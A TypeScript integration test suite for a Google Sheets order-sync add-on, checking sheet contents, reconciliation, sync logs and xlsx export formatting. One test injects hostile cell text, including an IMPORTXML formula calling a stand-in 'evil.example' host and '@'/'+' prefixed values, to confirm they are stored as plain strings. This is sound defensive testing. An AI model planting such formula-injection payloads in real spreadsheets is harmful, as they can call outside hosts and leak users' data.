/**
 * The sync's proof against the truth: after a first sync and then every kind of change through the control API
 * (changes, new orders, cancellations, refunds, hostile text, late writers back-dating markers by
 * 240 s, vanishings followed by reconciliation), every managed sheet equals the emulator's truth
 * cell for cell, with no duplicate ids. Runs the built add-on (dist/) in the local runtime.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStack, type Stack } from '../../dev/harness/index';
import type { ExecutionResult } from '../../dev/gas-runtime/index';
import type { SheetModel } from '../../dev/gas-runtime/spreadsheet/sheet-model';
import { compareWithTruth, SCHEDULED_RUNS, sheetTable, syncUntilCaughtUp, type ScheduledRuns } from './sync-support';

type Json = Record<string, unknown>;
const HOUR_MS = 3_600_000;

let stack: Stack;
let mode: ScheduledRuns = 'direct';

async function truthOrders(): Promise<Json[]> {
  return ((await stack.truth('orders')) as { data: Json[] }).data;
}

async function tryControl(path: string, body: unknown): Promise<void> {
  try {
    await stack.control(path, body);
  } catch (e) {
    // 409: the change does not apply to that order (e.g. refunding a cancelled order).
    if (!/409|conflict/i.test(String(e))) throw e;
  }
}

// Scheduled runs called with the document, and fired by their trigger without it (Google may run either way); the
// reconciliation pass runs from the menu (with the document) in both.
describe.each(SCHEDULED_RUNS)('scheduled runs: %s', (runs) => {
  beforeAll(async () => {
    mode = runs;
    stack = await startStack({ orders: 400, seed: 11 });
    await stack.connect();
  });

  afterAll(async () => {
    await stack?.close();
  });

  describe('first sync', () => {
    it('fills every managed sheet equal to the truth', async () => {
      await syncUntilCaughtUp(stack, 20, 'onScheduledSync', mode);
      const result = await compareWithTruth(stack);
      expect(result.mismatches.slice(0, 5)).toEqual([]);
      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
      const headers = sheetTable(stack, 'Orders')[0];
      expect(headers).toEqual(
        expect.arrayContaining(['id', 'net_profit', 'utm_source', 'status', 'placed_date', 'synced_at']),
      );
    });
  });

  describe('incremental sync after every change kind, with late writers back-dating 240 s', () => {
    it('brings all sheets back to the truth, keeping a column the user added', async () => {
      const orders = await truthOrders();
      // A user's own column to the right of the managed ones, on the first order's row.
      const sheet = stack.runtime.workbook.sheetByName('Orders') as SheetModel;
      const userColumn = sheetTable(stack, 'Orders')[0].length + 2;
      sheet.write(2, userColumn, { value: 'my note' });
      const firstId = sheetTable(stack, 'Orders')[1][0];

      await stack.control('late-writers', { max_backdate_seconds: 240 });
      const kinds = [
        'cost_correction',
        'late_fulfillment',
        'ad_spend',
        'attribution',
        'refund',
        'partial_refund',
        'cancel',
      ];
      let i = 0;
      for (const kind of kinds) {
        for (let n = 0; n < 3; n++)
          await tryControl(`orders/${String(orders[(i++ * 37) % orders.length].id)}/change`, { kind });
      }
      const hostile = orders[5];
      const lines = hostile.line_items as Json[];
      await stack.control(`orders/${String(hostile.id)}/patch`, {
        attribution: { utm_campaign: '=IMPORTXML("http://evil.example","//a")', utm_source: null },
        order_number: '+1-555',
        customer_ref: '@SUM(A1)',
        line_items: [{ id: lines[0].id, name: 'N'.repeat(60_000) }],
      });
      await stack.control('orders', { count: 30 });
      const products = ((await stack.truth('products')) as { data: Json[] }).data;
      for (const [k, kind] of ['cost_correction', 'price', 'new_variant'].entries()) {
        await stack.control(`products/${String(products[k * 7].id)}/change`, { kind });
      }
      await stack.advanceClocks(HOUR_MS);
      await syncUntilCaughtUp(stack, 20, 'onScheduledSync', mode);

      const result = await compareWithTruth(stack);
      expect(result.mismatches.slice(0, 5)).toEqual([]);
      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
      // The formula-looking text is a string in the sheet, not a formula.
      expect(stack.runtime.exportJson().formulas.Orders ?? []).toEqual([]);
      const rows = sheetTable(stack, 'Orders');
      expect(rows[1][0]).toBe(firstId);
      expect(rows[1][userColumn - 1]).toBe('my note');
    });
  });

  describe('vanished orders and reconciliation', () => {
    it('marks orders the service no longer returns as gone, with the date; nothing is deleted', async () => {
      const orders = await truthOrders();
      const vanished = [orders[3], orders[50], orders[120]].map((o) => String(o.id));
      for (const id of vanished) await stack.control(`orders/${id}/vanish`, {});
      const rowsBefore = sheetTable(stack, 'Orders').length;

      let done = false;
      for (let n = 0; n < 10 && !done; n++) {
        const r = await stack.runtime.run('reconcileOrdersNow', []);
        expect(r.ok || r.timedOut).toBe(true);
        done = Boolean((r.value as { done?: boolean } | undefined)?.done);
      }
      expect(done).toBe(true);

      const result = await compareWithTruth(stack, { expectGone: new Set(vanished) });
      expect(result).toEqual({ mismatches: [], missing: [], unexpected: [], duplicates: [] });
      const table = sheetTable(stack, 'Orders');
      expect(table.length).toBe(rowsBefore);
      const [headers, ...rows] = table;
      const goneRows = rows.filter((r) => r[headers.indexOf('status')] === 'gone');
      expect(goneRows.map((r) => r[headers.indexOf('id')]).sort()).toEqual([...vanished].sort());
      for (const r of goneRows) expect(String(r[headers.indexOf('gone_at')])).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    });

    it('keeps one Sync log row per run with its counts', () => {
      const [headers, ...rows] = sheetTable(stack, 'Sync log');
      expect(headers).toEqual([
        'started_at',
        'ended_at',
        'job',
        'orders_added',
        'orders_updated',
        'orders_cancelled',
        'orders_gone',
        'line_items',
        'products',
        'variants',
        'pnl_days',
        'pages',
        'requests',
        'rate_limit_waits',
        'outcome',
        'message',
      ]);
      expect(rows.length).toBeGreaterThanOrEqual(3);
      const last = rows[rows.length - 1];
      expect(String(last[headers.indexOf('job')])).toContain('reconcile');
      expect(last[headers.indexOf('orders_gone')]).toBe(3);
      expect(rows.every((r) => r[headers.indexOf('outcome')] !== 'running')).toBe(true);
    });
  });
});

describe('the exported workbook after a demo-sized sync', () => {
  const DEMO_ORDERS = 2000;
  const MANAGED = ['Orders', 'Line items', 'Products', 'Variants', 'Daily P&L', 'Monthly P&L', 'Checks', 'Sync log'];
  const FORMATTING = [
    'Range.setFontWeight',
    'Sheets.Spreadsheets.batchUpdate',
    'Sheet.setColumnWidth',
    'Sheet.setColumnWidths',
    'Sheet.autoResizeColumns',
  ];
  const dir = mkdtempSync(join(tmpdir(), 'sync-export-'));
  let demo: Stack;
  let first: ExecutionResult;
  let next: ExecutionResult;
  const book = new ExcelJS.Workbook();

  beforeAll(async () => {
    demo = await startStack({ orders: DEMO_ORDERS, seed: 5 });
    await demo.connect();
    first = await demo.runtime.run('onScheduledSync', []);
    expect((first.value as { done?: boolean }).done).toBe(true);
    await demo.control('orders', { count: 5 });
    await demo.advanceClocks(HOUR_MS);
    next = await demo.runtime.run('onScheduledSync', []);
    expect((next.value as { done?: boolean }).done).toBe(true);
    await demo.runtime.exportXlsx(join(dir, 'workbook.xlsx'));
    await book.xlsx.readFile(join(dir, 'workbook.xlsx'));
    // A 2,000-order sync and an xlsx export: over a minute of host time on a loaded CI machine.
  }, 240_000);

  afterAll(async () => {
    await demo?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('every managed sheet has a bold header row', () => {
    const sheets = demo.runtime.exportJson().sheets;
    for (const name of MANAGED) {
      const ws = book.getWorksheet(name)!;
      const headers = sheets[name][0];
      expect(headers.length, name).toBeGreaterThan(0);
      headers.forEach((header, i) => expect(ws.getCell(1, i + 1).font?.bold, `${name} ${String(header)}`).toBe(true));
      expect(ws.getCell(2, 1).font?.bold, `${name} row 2`).toBeFalsy();
    }
  });

  it('no date, date-time or amount cell would show ##### in Excel: each column is wider than its widest value', () => {
    // Excel shows a number as ##### when its formatted text is wider than the column (in characters).
    const shownLength = (value: unknown, numFmt: string): number | null => {
      if (value instanceof Date) return numFmt.replace(/"[^"]*"|\[[^\]]*\]/g, '').trim().length;
      // "[$USD]" adds " USD", "[$$]" adds "$".
      const currency = /\[\$([^\]-]+)(?:-[^\]]*)?\]/.exec(numFmt);
      if (typeof value === 'number' && /#,##0\.00/.test(numFmt)) {
        const text = value.toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });
        return text.length + (currency ? currency[1].length + (/^[A-Z]{3}$/.test(currency[1]) ? 1 : 0) : 0);
      }
      return null;
    };
    let dateTimeColumns = 0;
    for (const name of MANAGED) {
      const ws = book.getWorksheet(name)!;
      const widest = new Map<number, number>();
      ws.eachRow((row, r) => {
        if (r === 1) return;
        row.eachCell((cell, c) => {
          const length = shownLength(cell.value, cell.numFmt ?? '');
          if (length !== null) widest.set(c, Math.max(widest.get(c) ?? 0, length));
        });
      });
      for (const [c, length] of widest) {
        expect(
          ws.getColumn(c).width ?? 0,
          `${name} column ${c} (${String(ws.getCell(1, c).value)})`,
        ).toBeGreaterThanOrEqual(length + 1);
      }
      ws.getRow(1).eachCell((cell, c) => {
        if (ws.getCell(2, c).numFmt !== 'yyyy-mm-dd hh:mm:ss') return;
        dateTimeColumns++;
        expect(ws.getColumn(c).width ?? 0, `${name} ${String(cell.value)}`).toBeGreaterThanOrEqual(
          'yyyy-mm-dd hh:mm:ss'.length + 1,
        );
      });
    }
    expect(dateTimeColumns).toBeGreaterThanOrEqual(10);
  });

  it("ids, gids and URLs in the .xlsx have columns wide enough to read (in characters of Excel's default font)", () => {
    for (const [sheet, header] of [
      ['Orders', 'id'],
      ['Orders', 'external_order_gid'],
      ['Orders', 'customer_ref'],
      ['Products', 'id'],
      ['Line items', 'order_id'],
    ] as const) {
      const ws = book.getWorksheet(sheet)!;
      let column = 0;
      ws.getRow(1).eachCell((cell, c) => {
        if (cell.value === header) column = c;
      });
      expect(column, `${sheet} ${header}`).toBeGreaterThan(0);
      let longest = 0;
      ws.getColumn(column).eachCell((cell, r) => {
        if (r > 1) longest = Math.max(longest, String(cell.value ?? '').length);
      });
      expect(ws.getColumn(column).width ?? 0, `${sheet} ${header}`).toBeGreaterThanOrEqual(longest);
    }
  });

  it('formatting is done once, when a sheet is created; later runs make no formatting calls and the same few calls per page', async () => {
    const calls = (r: ExecutionResult, method: string): number => r.counts.byMethod[method] ?? 0;
    // The bold header row (checked in the export above) comes with each sheet's one set-up batchUpdate.
    expect(calls(first, 'Range.setFontWeight')).toBe(0);
    // One per sheet set up; the sheets a first run creates get the rows its queued pages need in
    // their addSheet (the grids grown once a flush), and a grid that must grow later grows with
    // SpreadsheetApp (rows inserted, then formatted), at least 1,000 rows at a time, taking none of
    // the Sheets API's write quota.
    const grownRows = MANAGED.reduce(
      (n, name) => n + (demo.runtime.workbook.sheetByName(name) as SheetModel).maxRows - 1000,
      0,
    );
    expect(grownRows).toBeGreaterThan(0);
    // At most one set-up batchUpdate per sheet: sheets created one after another share one.
    expect(calls(first, 'Sheets.Spreadsheets.batchUpdate')).toBeGreaterThan(0);
    expect(calls(first, 'Sheets.Spreadsheets.batchUpdate')).toBeLessThan(MANAGED.length);
    expect(calls(first, 'Sheet.insertRowsAfter')).toBeLessThanOrEqual(Math.floor(grownRows / 1000));
    for (const method of FORMATTING) expect(calls(next, method), method).toBe(0);
    // One Values.batchUpdate per page written, plus the Sync log rows (the scale test bounds the rest).
    const orderPages = first.counts.requests.filter((q) => /\/api\/v1\/orders\?/.test(q.url)).length;
    expect(orderPages).toBe(Math.ceil(DEMO_ORDERS / 250));
    expect(calls(first, 'Sheets.Spreadsheets.Values.batchUpdate')).toBeLessThanOrEqual(orderPages + 8);
    // SpreadsheetApp.flush before a Sheets API request that pending changes would race is counted apart
    const flushes = calls(first, 'SpreadsheetApp.flush');
    expect(flushes).toBeLessThanOrEqual(
      Object.entries(first.counts.byMethod)
        .filter(([m]) => m.startsWith('Sheets.'))
        .reduce((n, [, c]) => n + c, 0),
    );
    // A run that changed data re-enters the add-on's formulas (refresh.ts): measured alone from the
    // menu, whose toast is one call more.
    const refresh = await demo.runtime.run('refreshFormulasFromMenu', [], { authMode: 'FULL' });
    expect(refresh.ok, refresh.error?.message).toBe(true);
    const refreshCalls = refresh.counts.sheetsCalls - 1;
    // 121: the set-up's 120 plus the Sync log's header notes (its count columns say what they count), once.
    expect(first.counts.sheetsCalls - flushes).toBeLessThanOrEqual(121 + 4 * orderPages + refreshCalls);
    expect(calls(next, 'Spreadsheet.insertSheet')).toBe(0);
    expect(calls(next, 'Sheets.Spreadsheets.Values.batchUpdate')).toBeLessThanOrEqual(5);
  });
});
